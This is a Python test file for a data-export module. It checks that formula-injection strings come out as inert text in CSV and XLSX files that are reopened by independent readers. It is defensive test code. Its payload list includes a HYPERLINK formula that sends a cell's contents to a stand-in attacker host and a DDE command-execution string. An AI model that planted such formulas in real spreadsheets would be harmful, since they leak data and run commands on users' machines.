"""Formula-injection strings come out inert in CSV and XLSX, reopened with independent readers."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pilot_roi.safe_export import (
    is_dangerous,
    neutralise_frame,
    neutralise_pandas,
    neutralise_value,
    pandas_csv,
    safe_workbook,
    write_csv,
    write_xlsx,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["plain", "Итого", "Барлығы", "1 234,5", "", " =leading space is text", "a=b"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_dangerous_values_get_a_quote(payload: str) -> None:
    assert neutralise_value(payload) == "'" + payload


@pytest.mark.parametrize("value", [*SAFE, None, -4.2, 3, date(2025, 3, 1), True])
def test_everything_else_is_unchanged(value: object) -> None:
    assert neutralise_value(value) == value


@settings(max_examples=60, deadline=None)
@given(st.text())
def test_neutralised_text_is_never_dangerous_and_loses_nothing(text: str) -> None:
    out = neutralise_value(text)
    assert isinstance(out, str)
    assert not is_dangerous(out)
    assert out in (text, "'" + text)


def _frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "comment": [*PAYLOADS, "fine"],
            "effect": [-4.2] * len(PAYLOADS) + [1.0],
            "period": [date(2025, 1, 1)] * (len(PAYLOADS) + 1),
            "@evil_header": ["x"] * (len(PAYLOADS) + 1),
        }
    ).with_columns(site=pl.col("comment").cast(pl.Categorical), tags=pl.concat_list("comment", pl.lit("ok")))


def test_frame_text_columns_and_names_are_neutralised() -> None:
    out = neutralise_frame(_frame())
    assert out["comment"].to_list() == ["'" + p for p in PAYLOADS] + ["fine"]
    assert out["site"].to_list() == out["comment"].to_list()
    assert out["tags"].to_list()[0] == ["'" + PAYLOADS[0], "ok"]
    assert out["effect"].to_list() == _frame()["effect"].to_list()  # numbers stay numbers
    assert out.schema["effect"] == pl.Float64
    assert "'@evil_header" in out.columns


def test_csv_reopened_has_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(_frame().drop("tags"), path)  # CSV has no nested columns
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [cell for row in rows for cell in row]
    assert "-4.2" in cells  # a number, written as a number
    text = [cell for cell in cells if cell != "-4.2"]
    assert not any(is_dangerous(cell) for cell in text)
    assert sum(cell.startswith("'") for cell in text) == 2 * len(PAYLOADS) + 1  # comment, site, header


def test_xlsx_reopened_holds_text_not_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(_frame().drop("tags"), path)
    sheet = openpyxl.load_workbook(path).active
    text_cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert text_cells
    for cell in text_cells:
        assert cell.data_type == "s", cell.value  # 'f' would be a formula
        assert not cell.value.startswith(("=", "+", "-", "@"))
    numbers = [c.value for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "n"]
    assert -4.2 in numbers


def test_safe_workbook_never_makes_formulas_or_links(tmp_path: Path) -> None:
    path = tmp_path / "hand.xlsx"
    with safe_workbook(path) as workbook:
        sheet = workbook.add_worksheet("report")
        sheet.write(0, 0, "=1+1")  # even without neutralising, xlsxwriter keeps it a string
        sheet.write(1, 0, "http://evil.example")
        sheet.write(2, 0, neutralise_value("=1+1"))
    reopened = openpyxl.load_workbook(path).active
    assert [reopened.cell(r, 1).data_type for r in (1, 2, 3)] == ["s", "s", "s"]
    assert reopened.cell(2, 1).hyperlink is None
    assert reopened.cell(3, 1).value == "'=1+1"


def test_pandas_frames_for_dash_downloads() -> None:
    frame = pd.DataFrame({"comment": PAYLOADS, "effect": [-1.0] * len(PAYLOADS), "=x": ["a"] * len(PAYLOADS)})
    out = neutralise_pandas(frame)
    assert list(out["comment"]) == ["'" + p for p in PAYLOADS]
    assert list(out["effect"]) == [-1.0] * len(PAYLOADS)
    assert list(out.columns) == ["comment", "effect", "'=x"]
    text = pandas_csv(frame)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS) + 1  # a CR inside a cell does not split its row
    assert [row[0] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    cells = [cell for row in rows for cell in row if cell != "-1.0"]
    assert not any(is_dangerous(cell) for cell in cells)
